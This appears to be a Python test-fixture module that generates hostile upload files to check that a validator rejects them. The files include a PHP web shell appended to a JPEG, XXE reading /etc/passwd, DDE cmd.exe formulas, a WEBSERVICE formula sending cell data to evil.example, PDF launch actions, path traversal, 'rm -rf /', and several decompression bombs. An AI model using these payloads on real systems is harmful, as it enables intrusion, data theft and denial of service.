"""Hostile files, made here by code: none is stored in the repository, and none does harm where it lies.

CORPUS: name → (file name, maker, what must happen). `sealed` is kept but has no working copy; `bare` is taken, and
its working copy holds none of `MARK`; every other word is the reason of the refusal, one sentence of errors.file.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from types import MappingProxyType

from PIL import Image, PngImagePlugin

MARK = b"HOSTILE-MARK-31337"


# ---------------------------------------------------------------- pictures


def picture(kind: str = "JPEG", **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "navy").save(out, kind, **options)
    return out.getvalue()


def gif_script() -> bytes:
    return b"GIF89a/*" + bytes(20) + b"*/=1;alert('" + MARK + b"')//"


def jpeg_php() -> bytes:
    return picture() + b"<?php system($_GET['c']); // " + MARK


def jpeg_comment_script() -> bytes:
    return picture(comment=b"*/=1;alert(1)//" + MARK)


def png_text_script() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", "<script>alert(1)</script>" + MARK.decode(), zip=False)
    return picture("PNG", pnginfo=notes) + b"<script>" + MARK


def png_bomb(side: int = 60_000) -> bytes:
    """Pixels that would fill gigabytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(3_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A small picture whose notes unpack to a gigabyte."""
    plain = picture("PNG")
    body = b"Comment\x00\x00" + zlib.compress(bytes(60_000_000), 9)
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return plain[:33] + chunk * 20 + plain[33:]


def jpeg_bomb() -> bytes:
    """A telephone's picture whose head says 65,000 by 65,000."""
    data = bytearray(picture())
    place = data.index(b"\xff\xc0") + 5
    data[place : place + 4] = struct.pack(">HH", 65_000, 65_000)
    return bytes(data)


def jpeg_zip() -> bytes:
    return picture() + plain_zip({"evil.exe": MARK})


# ---------------------------------------------------------------- archives and office files


def plain_zip(parts: Mapping[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def office(parts: Mapping[str, bytes | str], *, kind: str = "docx") -> bytes:
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    return plain_zip({"[Content_Types].xml": "<Types/>", main: "<document/>", **parts})


def relation(kind: str, target: str) -> str:
    link = f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{link}</Relationships>"


def claims_huge_entry() -> bytes:
    """The directory says 10 GB (ZIP64), as a bomb would."""
    data = bytearray(office({"word/media/a.bin.xml": b"x" * 100}))
    place = data.rfind(b"word/media/a.bin.xml") - 46
    data[place + 24 : place + 28] = struct.pack("<I", 0xFFFF_FFF0)
    return bytes(data)


@cache
def bomb_entry(method: int = zipfile.ZIP_DEFLATED, megabytes: int = 120) -> bytes:
    """A real one: a hundred megabytes in a hundred kilobytes, or in some hundred bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        with archive.open("word/bomb.xml", "w") as part:
            for _ in range(megabytes):
                part.write(bytes(1024 * 1024))
    return out.getvalue()


def lying_bomb_entry(method: int = zipfile.ZIP_DEFLATED, megabytes: int = 120) -> bytes:
    """The same, but the directory says that it is small."""
    data = bytearray(bomb_entry(method, megabytes))
    place = data.rfind(b"word/bomb.xml") - 46
    data[place + 24 : place + 28] = struct.pack("<I", 900_000)
    return bytes(data)


def many_entries(count: int = 100_000) -> bytes:
    """Entries without end; the count in the end record wraps at 65,536."""
    names = [b"[Content_Types].xml", b"word/document.xml", *(b"word/%d" % number for number in range(count))]
    local = b"PK\x03\x04" + bytes(26)
    directory = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0)
        + name
        for name in names
    )
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, len(names) % 65_536, len(names) % 65_536, len(directory), 30, 0
    )
    return local + directory + end


def nested_zip() -> bytes:
    return plain_zip({"a.zip": plain_zip({"b.zip": plain_zip({"c.exe": MARK})})})


def docx_locked() -> bytes:
    """As office programs do it: an OLE container, no ZIP."""
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(504)
        + "EncryptedPackage".encode("utf-16-le")
        + bytes(2_000)
    )


def docx_xxe() -> bytes:
    return office({"word/header1.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'})


def docx_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return office({"word/document2.xml": f'<!DOCTYPE l [<!ENTITY l0 "ha">{entities}]><l>&l9;</l>'})


def docx_template() -> bytes:
    return office(
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")}
    )


def docx_dde() -> bytes:
    return office(
        {"word/footer.xml": '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'}
    )


def xlsx_macro() -> bytes:
    return office({"xl/vbaProject.bin": MARK}, kind="xlsx")


def xlsx_external() -> bytes:
    return office({"xl/externalLinks/externalLink1.xml": "<externalLink/>"}, kind="xlsx")


def xlsx_dde() -> bytes:
    cell = "<worksheet><sheetData><row><c><f>cmd|'/k calc'!A0</f></c></row></sheetData></worksheet>"
    return office({"xl/worksheets/sheet1.xml": cell}, kind="xlsx")


def xlsx_query() -> bytes:
    cell = '<worksheet><c><f>WEBSERVICE("http://evil.example/"&amp;A1)</f></c></worksheet>'
    return office({"xl/worksheets/sheet1.xml": cell}, kind="xlsx")


def xlsx_connection() -> bytes:
    return office(
        {"xl/connections.xml": '<connections><connection odcFile="http://evil/"/></connections>'}, kind="xlsx"
    )


# ---------------------------------------------------------------- PDF


def pdf(extra: bytes = b"", *, tail: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R" + extra + b">> endobj\n"
        b"2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj\n"
        b"trailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF\n" + tail
    )


def pdf_stream(head: bytes, body: bytes) -> bytes:
    stream = b"9 0 obj <<%s/Length %d>>\nstream\n%s\nendstream endobj\n" % (head, len(body), body)
    return pdf().replace(b"trailer", stream + b"trailer")


def pdf_stream_bomb() -> bytes:
    return pdf_stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(bytes(200_000_000), 6))


def pdf_hidden_script() -> bytes:
    return pdf_stream(
        b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"7 0 <</S/JavaScript/JS(1)>>")
    )


# ---------------------------------------------------------------- recordings


def box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(body), kind) + body


def mp4(tail: bytes = b"") -> bytes:
    moov = box(b"moov", box(b"mvhd", bytes(20)) + box(b"udta", box(b"\xa9xyz", MARK)))
    return box(b"ftyp", b"isom" + bytes(8)) + moov + box(b"mdat", b"frame") + tail


def mp4_deep() -> bytes:
    nest = b""
    for _ in range(3_000):
        nest = box(b"moov", nest)
    return box(b"ftyp", b"isom" + bytes(8)) + nest


Row = tuple[str, Callable[[], bytes], str]
CORPUS: Mapping[str, Row] = MappingProxyType(
    {
        "gif that is a script": ("a.gif", gif_script, "type"),
        "gif that is a script, called jpg": ("a.jpg", gif_script, "type"),
        "html called png": ("a.png", lambda: b"<html><script>alert(1)</script></html>", "type"),
        "svg with a script called png": ("a.png", lambda: b"<svg onload='alert(1)'/>", "type"),
        "jpeg with php behind it": ("a.jpg", jpeg_php, "bare"),
        "jpeg with a script in its comment": ("a.jpg", jpeg_comment_script, "bare"),
        "png with a script in its notes": ("a.png", png_text_script, "bare"),
        "png of gigabytes": ("a.png", png_bomb, "unsafe"),
        "png whose notes are a bomb": ("a.png", png_text_bomb, "damaged"),
        "jpeg of gigabytes": ("a.jpg", jpeg_bomb, "unsafe"),
        "jpeg with a zip behind it": ("a.jpg", jpeg_zip, "unsafe"),
        "jpeg with a rar behind it": ("a.jpg", lambda: picture() + b"Rar!\x1a\x07\x00" + MARK, "unsafe"),
        "mp4 with a zip behind it": ("a.mp4", lambda: mp4(plain_zip({"evil.exe": MARK})), "unsafe"),
        "mp4 with boxes without end": ("a.mp4", mp4_deep, "damaged"),
        "mp4 that says where it was made": ("a.mp4", mp4, "bare"),
        "pdf with a zip behind it": ("a.pdf", lambda: pdf(tail=plain_zip({"evil.exe": MARK})), "unsafe"),
        "pdf with a page behind it": ("a.pdf", lambda: pdf(tail=b"<script>alert(1)</script>"), "sealed"),
        "pdf with a script": (
            "a.pdf",
            lambda: pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
            "sealed",
        ),
        "pdf with a disguised script": (
            "a.pdf",
            lambda: pdf(b"/OpenAction<</S/J#61vaScript/JS(1)>>"),
            "sealed",
        ),
        "pdf with a packed script": ("a.pdf", pdf_hidden_script, "sealed"),
        "pdf that starts programs": ("a.pdf", lambda: pdf(b"/AA<</O<</S/Launch/F(cmd.exe)>>>>"), "sealed"),
        "pdf with a file inside": ("a.pdf", lambda: pdf(b"/Names<</EmbeddedFiles 9 0 R>>"), "sealed"),
        "pdf that sends forms": ("a.pdf", lambda: pdf(b"/AA<</S/SubmitForm/F(http://evil)>>"), "sealed"),
        "pdf that opens another": ("a.pdf", lambda: pdf(b"/A<</S/GoToE/F(x)>>"), "sealed"),
        "pdf that is locked": ("a.pdf", lambda: pdf().replace(b"/Root", b"/Encrypt 8 0 R/Root"), "password"),
        "pdf that is a bomb": ("a.pdf", pdf_stream_bomb, "sealed"),
        "docx that says ten gigabytes": ("a.docx", claims_huge_entry, "unsafe"),
        "docx that is a bomb": ("a.docx", bomb_entry, "unsafe"),
        "docx that is a bomb and denies it": ("a.docx", lying_bomb_entry, "damaged"),
        "docx that is a bomb of another kind": (
            "a.docx",
            lambda: lying_bomb_entry(zipfile.ZIP_BZIP2, 8),
            "unsafe",
        ),
        "docx that is a bomb of a third kind": (
            "a.docx",
            lambda: lying_bomb_entry(zipfile.ZIP_LZMA, 8),
            "unsafe",
        ),
        "docx of a hundred thousand parts": ("a.docx", many_entries, "unsafe"),
        "docx that reads our files": ("a.docx", docx_xxe, "unsafe"),
        "docx of a billion laughs": ("a.docx", docx_laughs, "unsafe"),
        "docx that fetches its template": ("a.docx", docx_template, "unsafe"),
        "docx that starts programs": ("a.docx", docx_dde, "unsafe"),
        "docx that climbs out": ("a.docx", lambda: office({"../../evil.xml": "<x/>"}), "unsafe"),
        "docx with a program inside": ("a.docx", lambda: office({"word/embeddings/o.bin": MARK}), "unsafe"),
        "docx that is locked": ("a.docx", docx_locked, "password"),
        "xlsx with macros": ("a.xlsx", xlsx_macro, "unsafe"),
        "xlsx with a link to elsewhere": ("a.xlsx", xlsx_external, "unsafe"),
        "xlsx that starts programs": ("a.xlsx", xlsx_dde, "unsafe"),
        "xlsx that tells somebody": ("a.xlsx", xlsx_query, "unsafe"),
        "xlsx that asks a database": ("a.xlsx", xlsx_connection, "unsafe"),
        "zip in a zip in a zip": ("a.docx", nested_zip, "type"),
        "program called photo": ("a.jpg", lambda: b"MZ\x90\x00" + MARK, "type"),
        "shell called text": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /", "type"),
        "nothing at all": ("a.jpg", lambda: b"", "empty"),
        "one byte too much": ("a.txt", lambda: b"a" * (20 * 1024 * 1024 + 1), "too_big"),
    }
)
